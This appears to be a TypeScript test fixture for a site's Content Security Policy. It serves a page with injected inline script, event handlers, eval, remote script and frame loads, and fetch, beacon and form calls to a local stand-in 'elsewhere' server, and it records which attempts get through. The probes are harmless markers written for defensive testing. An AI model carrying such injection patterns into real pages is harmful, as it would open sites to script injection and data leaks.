import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pageWith } from '../temp-page.ts';

/** Everything that injected markup or a taken-over script would try. Each leaves its name. */
export const attacks = [
  'inline script',
  'event attribute',
  'eval',
  'new Function',
  'markup from text',
  'script from elsewhere',
  'script as data',
  'fetch elsewhere',
  'picture from elsewhere',
  'frame from elsewhere',
  'frame from text',
  'form to elsewhere',
  'base address',
  'worker',
  'beacon',
  'style attribute',
  'style without nonce',
] as const;

/** The page of the app with an attack in its text and a script of its own that is in bad hands. */
export function attackedBuild(elsewhere: string): Readonly<Record<string, string>> {
  return {
    'index.html': page,
    'assets/attack.js': script(elsewhere),
    'assets/worker.js': 'postMessage(1)',
  };
}

const page = pageWith({
  head: `<link rel="icon" href="data:," /><script>window.won = ['inline script']</script>`,
  body: `<img alt="" src="data:," onerror="window.won.push('event attribute')" />
<script type="module" src="/assets/attack.js"></script>`,
});

function script(elsewhere: string): string {
  return `
const won = (window.won ??= []);
const win = (name) => won.push(name);
const attempt = async (name, act) => { try { if ((await act()) && name) win(name); } catch {} };
const add = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
const loads = (element) => new Promise((resolve) => {
  element.onload = () => resolve(true);
  element.onerror = () => resolve(false);
});
window.fromElsewhere = () => win('script from elsewhere');
window.fromData = () => win('script as data');
window.fromFrame = () => win('frame from text');
await attempt('eval', () => eval('true'));
await attempt('new Function', () => new Function('return true')());
await attempt('markup from text', () => { add('p', {}).innerHTML = '<b>x</b>'; return true; });
await attempt('', () => loads(add('script', { src: '${elsewhere}/script.js' })));
await attempt('', () => loads(add('script', { src: 'data:text/javascript,fromData()' })));
await attempt('fetch elsewhere', () => fetch('${elsewhere}/fetch').then((r) => r.ok));
await attempt('picture from elsewhere', () => loads(add('img', { src: '${elsewhere}/a.svg' })));
await attempt('', () => loads(add('iframe', { src: '${elsewhere}/frame' })));
await attempt('', () => loads(add('iframe', { srcdoc: '<script>parent.fromFrame()</script>' })));
await attempt('base address', () => {
  document.head.appendChild(Object.assign(document.createElement('base'), { href: '${elsewhere}' }));
  return document.baseURI.startsWith('${elsewhere}');
});
await attempt('worker', () => new Promise((resolve) => {
  const worker = new Worker(location.origin + '/assets/worker.js');
  worker.onmessage = () => resolve(true);
  worker.onerror = () => resolve(false);
}));
await attempt('', () => { navigator.sendBeacon('${elsewhere}/beacon'); return false; });
await attempt('style attribute', () => {
  const p = add('p', {});
  p.setAttribute('style', 'color: rgb(1, 2, 3)');
  return getComputedStyle(p).color === 'rgb(1, 2, 3)';
});
await attempt('style without nonce', () => {
  add('style', { textContent: 'body { color: rgb(4, 5, 6) }' });
  return getComputedStyle(document.body).color === 'rgb(4, 5, 6)';
});
add('iframe', { name: 'target' });
await attempt('', () => { add('form', { action: '${elsewhere}/form', target: 'target' }).submit(); });
setTimeout(() => { document.documentElement.dataset.done = 'yes'; }, 500);
`;
}

export type Elsewhere = {
  readonly origin: string;
  /** The attacks that reached it. */
  readonly reached: Set<string>;
  close(): void;
};

const byPath: Readonly<Record<string, string>> = {
  '/fetch': 'fetch elsewhere',
  '/a.svg': 'picture from elsewhere',
  '/frame': 'frame from elsewhere',
  '/beacon': 'beacon',
  '/form': 'form to elsewhere',
};

const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>';

/** A server of somebody else, on another port of this machine. */
export async function startElsewhere(): Promise<Elsewhere> {
  const reached = new Set<string>();
  const server = createServer((request, response) => {
    const path = (request.url ?? '').split('?')[0] ?? '';
    if (byPath[path] !== undefined) reached.add(byPath[path]);
    const type = path.endsWith('.svg') ? 'image/svg+xml' : 'text/javascript';
    response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
    response.end(path === '/a.svg' ? svg : path === '/script.js' ? 'fromElsewhere()' : '');
  });
  const origin = await listen(server);
  return { origin, reached, close: () => void server.close().closeAllConnections() };
}

/** The same files without any policy: what the attacks can do when nothing stops them. */
export async function startUnprotected(files: Readonly<Record<string, string>>) {
  const server = createServer((request, response) => {
    const name = request.url === '/' ? 'index.html' : (request.url ?? '').slice(1);
    const type = name.endsWith('.js') ? 'text/javascript' : 'text/html';
    response.writeHead(files[name] === undefined ? 404 : 200, { 'content-type': type });
    response.end(files[name]);
  });
  const origin = await listen(server);
  return { origin, close: () => void server.close().closeAllConnections() };
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
